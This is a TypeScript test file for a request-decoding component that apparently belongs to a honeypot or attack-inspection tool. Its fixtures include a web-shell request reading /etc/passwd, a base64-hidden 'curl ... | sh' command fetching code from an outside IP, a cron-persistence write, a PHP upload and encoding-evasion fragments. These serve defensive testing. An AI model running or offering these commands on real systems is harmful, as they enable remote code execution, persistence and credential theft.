import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { View } from '../events/view.js'
import { RequestViews } from './request-views.js'

const texts = (views: readonly View[]) => views.map(({ name, text }) => `${name}: ${text}`)
const totalLength = (views: readonly View[]) => views.reduce((sum, { text }) => sum + text.length, 0)

describe('RequestViews', () => {
  const request = {
    method: 'POST',
    path: '/shell%2ephp',
    query: 'cmd=cat+/etc/passwd',
    headers: { host: 'decoy.example', cookie: ['a=1', 'b=%41'], 'user-agent': 'curl/8.0' },
    body: 'x=1',
    status: 404,
  }

  it.each([
    ['method', ['raw: POST']],
    ['path', ['raw: /shell%2ephp', 'folded: /shell.php']],
    ['query', ['raw: cmd=cat+/etc/passwd', 'folded: cmd=cat /etc/passwd']],
    ['raw_url', ['raw: /shell%2ephp?cmd=cat+/etc/passwd', 'folded: /shell.php?cmd=cat /etc/passwd']],
    ['body', ['raw: x=1']],
    ['headers.host', ['raw: decoy.example']],
    ['headers.Cookie', ['raw: a=1', 'raw: b=%41', 'folded: b=A']],
    ['headers.*', ['raw: decoy.example', 'raw: a=1', 'raw: b=%41', 'folded: b=A', 'raw: curl/8.0']],
    ['user_agent', ['raw: curl/8.0']],
    ['host', ['raw: decoy.example']],
  ])('reads %s', (field, expected) => {
    expect(texts(new RequestViews(request).field(field))).toEqual(expected)
  })

  it('reads the whole request as the very views of its parts', () => {
    const views = new RequestViews(request)
    const parts = ['path', 'query', 'headers.*', 'body'].flatMap((field) => views.field(field))
    const whole = views.field('request')
    expect(whole).toHaveLength(parts.length)
    expect(whole.every((view, index) => view === parts[index])).toBe(true)
  })

  it('works a field out once', () => {
    const views = new RequestViews(request)
    expect(views.field('path')).toBe(views.field('path'))
    expect(views.field('headers.cookie')).toBe(views.field('headers.cookie'))
  })

  it.each(['status', 'headers', 'headers.', 'headers.x-none', 'nosuch', '__proto__', 'constructor'])(
    'has no views of %s',
    (field) => {
      expect(new RequestViews(request).field(field)).toEqual([])
    },
  )

  it('finds path, query and user agent where the payload writes them otherwise', () => {
    const views = new RequestViews({ raw_url: '/a?b=1', user_agent: 'sqlmap/1.7' })
    expect(texts(views.field('path'))).toEqual(['raw: /a'])
    expect(texts(views.field('query'))).toEqual(['raw: b=1'])
    expect(texts(views.field('headers.user-agent'))).toEqual(['raw: sqlmap/1.7'])
    expect(texts(views.field('request'))).toEqual(['raw: /a', 'raw: b=1', 'raw: sqlmap/1.7'])
  })

  it('shows a text hidden in a parameter beside it', () => {
    const command = 'curl http://203.0.113.7/a | sh'
    const views = new RequestViews({ query: `c=${encodeURIComponent(Buffer.from(command).toString('base64'))}` })
    expect(texts(views.field('query')).at(-1)).toBe(`decoded: ${command}`)
  })

  it('finds a text hidden in JSON whatever escapes its slashes', () => {
    const script = 'echo "* * * * * root ??>>>~~~" > /mnt/etc/cron.d/a'
    const body = JSON.stringify({ Cmd: ['sh', '-c', Buffer.from(script).toString('base64')] }).replaceAll('/', '\\/')
    expect(texts(new RequestViews({ body }).field('body')).at(-1)).toBe(`decoded: ${script}`)
  })

  it('leaves a multipart body in its lines', () => {
    const body = '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php 1+1 ?>\r\n--b--\r\n'
    const views = new RequestViews({ headers: { 'content-type': 'multipart/form-data; boundary=b' }, body })
    expect(texts(views.field('body'))).toEqual([`raw: ${body}`])
  })

  it('keeps head and tail of a long body', () => {
    const [raw] = new RequestViews({ body: `first${'-'.repeat(100_000)}last` }).field('body')
    expect(raw?.text).toHaveLength(16_384 + 2048)
    expect(raw?.text.startsWith('first') && raw.text.endsWith('last')).toBe(true)
  })

  it.each([
    '%25%25',
    '${${${',
    '${lower:',
    '}${',
    '&#&#',
    '&#0',
    '%c0',
    '%u',
    '\\u{',
    '/*!',
    '/./',
    '..\\',
    'j\n',
    'aB',
    'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQg ',
    '\uff0e',
    '\ud835',
  ])('stays bounded on 100 kB of %j in every part', (piece) => {
    const text = piece.repeat(Math.ceil(100_000 / piece.length))
    const views = new RequestViews({ path: text, query: text, headers: { a: text, b: [text, text] }, body: text })
    expect(totalLength(views.field('request'))).toBeLessThanOrEqual(65_536)
    expect(views.field('path')[0]?.text).toHaveLength(3072)
  })

  it.each(['path', 'query', 'body', 'raw_url'])('has no empty reading of a %s that is only disguise', (part) => {
    const views = new RequestViews({ [part]: '\0' })
    expect(texts(views.field('request')).filter((text) => !text.startsWith('raw: '))).toEqual([])
    expect(texts(views.field('raw_url')).filter((text) => !text.startsWith('raw: '))).toEqual([])
  })

  it('never throws and stays bounded whatever the payload holds', () => {
    const value = fc.oneof(fc.anything(), fc.string({ unit: 'binary' }), fc.dictionary(fc.string(), fc.anything()))
    const payload = fc.record(
      { method: value, path: value, query: value, headers: value, body: value, raw_url: value, user_agent: value },
      { requiredKeys: [] },
    )
    fc.assert(
      fc.property(
        payload,
        fc.constantFrom('request', 'raw_url', 'user_agent', 'method', 'headers.host'),
        (given, field) => {
          const views = new RequestViews(given).field(field)
          expect(views.every(({ text }) => text !== '')).toBe(true)
          expect(totalLength(views)).toBeLessThanOrEqual(65_536)
        },
      ),
    )
  })
})
